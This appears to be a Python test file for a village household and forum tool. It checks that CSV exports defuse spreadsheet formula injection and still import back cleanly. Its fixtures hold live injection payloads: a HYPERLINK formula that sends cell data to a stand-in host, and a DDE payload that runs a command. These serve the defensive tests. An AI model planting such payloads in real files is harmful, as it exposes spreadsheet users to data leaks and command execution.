"""Exports that a spreadsheet opens as data, never as formulas (CSV injection, OWASP):
a cell that starts with = + - @ (or a tab or carriage return) gets a leading apostrophe,
numbers stay numbers, and an exported file still imports back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import orjson
import pytest

from sammachip_tui.cli import main
from sammachip_tui.model.records import ForumList
from sammachip_tui.reports.household_export import export_households
from sammachip_tui.reports.spreadsheet import spreadsheet_cell
from sammachip_tui.store.household_import import import_households
from sammachip_tui.store.register import households
from sammachip_tui.store.workspace import Workspace

VILLAGE = "52120505"
HOSTILE = {
    4: '=HYPERLINK("http://x.example/?"&A1,"คลิก")',  # first name
    5: "=cmd|'/C calc'!A0",  # last name
    8: "-2+3",  # main occupation
    10: "@SUM(1+1)",  # skills
    15: "+66 81 234 5678",  # phone
    9: "\t=1+1",  # secondary occupation
}


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _hostile_workspace(workspace: Workspace, sample_csv: Path, tmp_path: Path) -> Workspace:
    rows = _rows(sample_csv)[:3]
    for i, text in HOSTILE.items():
        rows[1][i] = text
    path = tmp_path / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    report = import_households(workspace, path)
    assert (report.created, report.errors) == (2, [])
    return workspace


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+66812345678", "'+66812345678"),
        ("-500", "'-500"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("'=1", "''=1"),
        ("จักสาน", "จักสาน"),
        ("'ok", "'ok"),
        (-500, "-500"),
        (-2.5, "-2.5"),
        (12, "12"),
        ("", ""),
        (None, ""),
    ],
)
def test_one_rule_for_every_cell(value: object, cell: str) -> None:
    assert spreadsheet_cell(value) == cell


def test_household_export_writes_no_formula(
    workspace: Workspace, sample_csv: Path, tmp_path: Path
) -> None:
    ws = _hostile_workspace(workspace, sample_csv, tmp_path)
    out = tmp_path / "out.csv"
    export_households(ws, out)
    row = next(r for r in _rows(out)[1:] if r[1] == _rows(sample_csv)[1][1])
    for i in HOSTILE:
        assert row[i].startswith("'"), (i, row[i])
    assert row[11] == "20500" and row[12] == "15000"  # amounts stay numbers


def test_a_neutralised_export_imports_back_unchanged(
    workspace: Workspace, sample_csv: Path, tmp_path: Path
) -> None:
    ws = _hostile_workspace(workspace, sample_csv, tmp_path)
    before = households(ws, VILLAGE)
    out = tmp_path / "out.csv"
    export_households(ws, out, unmasked=True)
    again = import_households(ws, out)
    assert (again.created, again.updated, again.errors) == (0, 0, [])
    assert households(ws, VILLAGE) == before
    phone = next(h.phone for h in before if h.first_name.startswith("=HYPERLINK"))
    assert phone == "+66 81 234 5678"


def test_forum_report_csv_writes_no_formula(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = ["--data-dir", str(data_dir), "--lang", "en"]
    village = "52120507"
    assert main([*base, "villages", "add", "521205", "7"]) == 0
    assert main([*base, "forums", "new", "--village", village, "--place", "=1+2"]) == 0
    capsys.readouterr()
    assert main([*base, "forums", "list", "--village", village, "--json"]) == 0
    forum_id = orjson.loads(capsys.readouterr().out)[0]["id"]
    add = [*base, "forums", "add-item", "--village", village, "--forum", forum_id]
    for text in ("=cmd|'/C calc'!A0", "-ถนนชำรุด", "@หนี้"):
        assert main([*add, "--list", ForumList.problem.value, "--raised-by=+6681", "--", text]) == 0
    capsys.readouterr()
    assert main([*base, "report", "forum", "--village", village, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(out.lstrip("\ufeff").splitlines()))
    items = [r for r in rows[1:] if r[2] == "problems"]
    assert sorted(r[4] for r in items) == ["'-ถนนชำรุด", "'=cmd|'/C calc'!A0", "'@หนี้"]
    assert all(r[7] == "'+6681" for r in items)
    assert all(r[5] == "0" and r[3].isdigit() for r in items)  # votes and numbers stay numbers
